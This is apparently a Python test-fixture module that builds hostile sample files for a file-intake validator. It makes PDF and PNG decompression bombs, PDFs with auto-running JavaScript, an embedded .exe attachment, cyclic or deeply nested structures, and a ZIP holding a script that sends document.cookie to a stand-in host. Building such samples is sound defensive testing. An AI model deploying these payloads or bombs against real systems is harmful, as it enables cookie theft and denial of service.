"""Files that mean harm, made in memory: bombs, files of two kinds, programs in the shape of paper."""

import struct
import zipfile
import zlib
from io import BytesIO

from PIL import Image
from pypdf import PdfWriter
from pypdf.annotations import Link
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    RectangleObject,
    StreamObject,
    TextStringObject,
)

from tests.services.intake_files import pdf, picture

MEGABYTE = 1024 * 1024
PROGRAM = b"<html><script>fetch('http://example.org/?'+document.cookie)</script></html>"


def _written(writer: PdfWriter) -> bytes:
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def _page() -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    return writer


def dictionary(**values: object) -> DictionaryObject:
    return DictionaryObject({NameObject(f"/{name}"): value for name, value in values.items()})


def with_action(kind: str, **values: object) -> bytes:
    """A PDF that does something when it is opened."""
    writer = _page()
    writer.root_object[NameObject("/OpenAction")] = dictionary(S=NameObject(kind), **values)
    return _written(writer)


def with_script_of_a_page() -> bytes:
    """A PDF whose page, not its catalogue, runs a script when it is turned."""
    writer = _page()
    writer.pages[0][NameObject("/AA")] = dictionary(
        O=dictionary(S=NameObject("/JavaScript"), JS=TextStringObject("app.alert(1)"))
    )
    return _written(writer)


def with_hidden_script() -> bytes:
    """A script in an object that nothing points to, for a later revision to take up."""
    writer = _page()
    writer._add_object(dictionary(S=NameObject("/JavaScript"), JS=TextStringObject("app.alert(1)")))  # noqa: SLF001
    return _written(writer)


def with_javascript() -> bytes:
    """A PDF with a script in its table of names, which runs when the file opens."""
    writer = _page()
    script = dictionary(S=NameObject("/JavaScript"), JS=TextStringObject("app.alert('x')"))
    names = dictionary(Names=ArrayObject([TextStringObject("a"), script]))
    writer.root_object[NameObject("/Names")] = dictionary(JavaScript=names)
    return _written(writer)


def with_file() -> bytes:
    writer = _page()
    writer.add_attachment("salary.exe", b"MZ\x90\x00")
    return _written(writer)


def with_form_of_xml() -> bytes:
    writer = _page()
    writer.root_object[NameObject("/AcroForm")] = dictionary(XFA=TextStringObject("<xdp/>"))
    return _written(writer)


def with_link() -> bytes:
    """A harmless PDF: a link that a person may click."""
    writer = _page()
    writer.add_annotation(0, Link(rect=RectangleObject((0, 0, 10, 10)), url="https://example.org"))
    return _written(writer)


def with_stream(size: int, *, twice: bool = False) -> bytes:
    """A PDF with a stream that is small in the file and large when it is unpacked."""
    packer = zlib.compressobj(9)
    piece = bytes(MEGABYTE)
    packed = b"".join(packer.compress(piece) for _number in range(size // MEGABYTE)) + packer.flush()
    writer = _page()
    stream = StreamObject()
    stream._data = zlib.compress(packed, 9) if twice else packed  # noqa: SLF001
    flate = NameObject("/FlateDecode")
    stream[NameObject("/Filter")] = ArrayObject([flate, flate]) if twice else flate
    writer.pages[0][NameObject("/Contents")] = writer._add_object(stream)  # noqa: SLF001
    return _written(writer)


def with_picture(width: int, height: int) -> bytes:
    """A PDF with a picture of a few bytes and of endless sides."""
    writer = _page()
    stream = StreamObject()
    stream._data = b"\x00"  # noqa: SLF001
    stream.update(
        {
            NameObject("/Subtype"): NameObject("/Image"),
            NameObject("/Width"): NumberObject(width),
            NameObject("/Height"): NumberObject(height),
        }
    )
    writer._add_object(stream)  # noqa: SLF001
    return _written(writer)


def with_count(pages: int) -> bytes:
    """A PDF of one page that says it has so many."""
    return pdf().replace(b"/Count 1", b"/Count %d" % pages)


def of_side(points: int) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=points)
    return _written(writer)


def in_circles() -> bytes:
    """A PDF whose tree of pages bites its own tail."""
    data = b"%PDF-1.4\n"
    places = []
    for body in (b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[2 0 R]>>"):
        places.append(len(data))
        data += b"%d 0 obj%sendobj\n" % (len(places), body)
    table = len(data)
    data += b"xref\n0 3\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % place for place in places)
    return data + b"trailer<</Size 3/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % table


def of_objects(count: int) -> bytes:
    """A PDF of one page and a great many objects."""
    body = b"".join(b"%d 0 obj<<>>endobj\n" % number for number in range(10, count + 10))
    return pdf().replace(b"%%EOF", b"") + body + b"%%EOF"


def nested(depth: int) -> bytes:
    """A PDF with lists within lists."""
    return pdf().replace(b"/Type /Catalog", b"/Type /Catalog /X " + b"[" * depth + b"]" * depth)


def archive(name: str = "evil.html", data: bytes = PROGRAM) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr(name, data)
    return out.getvalue()


def png_of(width: int, height: int) -> bytes:
    """A PNG of a few bytes that says it is as large as it likes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(bytes(1000)))
        + chunk(b"IEND", b"")
    )


def png_with_text(size: int) -> bytes:
    """A PNG whose text unpacks to so many bytes."""
    good = picture("PNG")
    packer = zlib.compressobj(9)
    packed = (
        b"".join(packer.compress(bytes(MEGABYTE)) for _number in range(size // MEGABYTE)) + packer.flush()
    )
    text = b"c\x00\x00" + packed
    chunk = struct.pack(">I", len(text)) + b"zTXt" + text + struct.pack(">I", zlib.crc32(b"zTXt" + text))
    return good[:33] + chunk + good[33:]


def jpeg_of(width: int, height: int) -> bytes:
    """A JPEG that says it is as large as it likes."""
    good = picture("JPEG")
    place = good.index(b"\xff\xc0") + 5
    return good[:place] + struct.pack(">HH", height, width) + good[place + 4 :]


def moving() -> bytes:
    """A PNG that moves."""
    out = BytesIO()
    frames = [Image.new("L", (16, 16), shade) for shade in (0, 128, 255)]
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    return out.getvalue()


def jpeg_with_comment(comment: bytes) -> bytes:
    out = BytesIO()
    Image.new("L", (32, 32)).save(out, "JPEG", comment=comment)
    return out.getvalue()
